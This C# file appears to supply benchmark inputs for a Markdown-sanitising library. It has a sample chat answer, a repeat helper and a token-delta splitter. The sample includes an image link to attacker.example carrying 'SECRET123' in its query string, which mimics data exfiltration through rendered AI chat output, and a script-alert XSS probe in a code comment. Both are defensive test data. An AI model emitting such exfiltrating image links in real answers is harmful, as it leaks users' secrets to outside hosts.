using System.Text;
using SecureKernel.TestData;

namespace SecureKernel.Benchmarks;

/// <summary>Deterministic inputs shared by the benchmarks.</summary>
internal static class BenchmarkInputs
{
    /// <summary>A chat answer in Markdown (~2.3 KB): headings, emphasis, lists, a table, code, links and images to allowed and other hosts.</summary>
    public const string MarkdownAnswer = """
## Quarterly summary

Revenue grew **4.2%** year over year, driven by *subscriptions* and the new `billing-v2` service.
See the [dashboard](https://trusted.example/dash?q=revenue) and the [external report](https://news.other.example/article/123).

- Churn fell to 2.1% (see https://trusted.example/churn)
- Support tickets: 1,204 (down 8%)
- Open incidents: none ![status](https://cdn.trusted.example/ok.png)

| Region | Q3 | Q4 |
|--------|---:|---:|
| EMEA   | 10 | 12 |
| APAC   |  8 |  9 |

```python
def total(xs):
    return sum(x.amount for x in xs)  # <script>alert(1)</script> stays text
```

> Note: numbers are preliminary. Reference[^1] and a chart ![chart][c].

[c]: https://attacker.example/p.png?d=SECRET123
[^1]: Finance team, internal memo.

Contact <mailto:finance@trusted.example> or visit www.other.example for more.

1. First, check the **billing** pipeline logs for the failed jobs.
2. Then re-run the export with `--since 2024-01-01`.
3. Finally, confirm the totals match the ledger.

The team also noted that *latency* improved after the cache change, and that the remaining work is tracked in the
[project board](https://trusted.example/board/42). No customer data was affected.

""";

    /// <summary>Mixed text of at least <paramref name="targetChars"/> characters.</summary>
    public static string MixedText(int targetChars) => MixedTextCorpus.Create(targetChars);

    /// <summary>The Markdown answer repeated to at least <paramref name="targetChars"/> characters.</summary>
    public static string Markdown(int targetChars)
    {
        var sb = new StringBuilder(targetChars + MarkdownAnswer.Length);
        while (sb.Length < targetChars)
        {
            sb.Append(MarkdownAnswer);
        }

        return sb.ToString();
    }

    /// <summary>Splits <paramref name="text"/> into deltas of <paramref name="size"/> characters, like streamed tokens.</summary>
    public static string[] Deltas(string text, int size)
    {
        var deltas = new string[(text.Length + size - 1) / size];
        for (int i = 0; i < deltas.Length; i++)
        {
            int start = i * size;
            deltas[i] = text.Substring(start, Math.Min(size, text.Length - start));
        }

        return deltas;
    }
}
